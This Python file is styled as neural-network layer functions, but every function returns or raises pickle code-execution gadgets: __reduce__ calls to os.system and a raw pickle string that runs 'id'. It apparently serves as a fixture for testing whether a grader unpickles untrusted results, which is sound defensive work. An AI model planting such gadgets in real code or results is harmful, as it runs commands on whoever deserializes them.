import os
import pickle

import numpy as np


class Command:
    def __reduce__(self):
        return os.system, ('touch /tmp/unpickled',)


def affine_forward(x, w, b):
    return Command(), (x, w, b)


def affine_backward(dout, cache):
    return np.array([Command()], dtype=object), pickle.dumps(Command()), b'cos\nsystem\n(S"id"\ntR.'


def relu_forward(x):
    return {'out': Command(), Command(): 1}, x


def svm_loss(x, y):
    raise type('E', (Exception,), {'__reduce__': Command.__reduce__, '__str__': lambda s: pickle.dumps(Command())})()
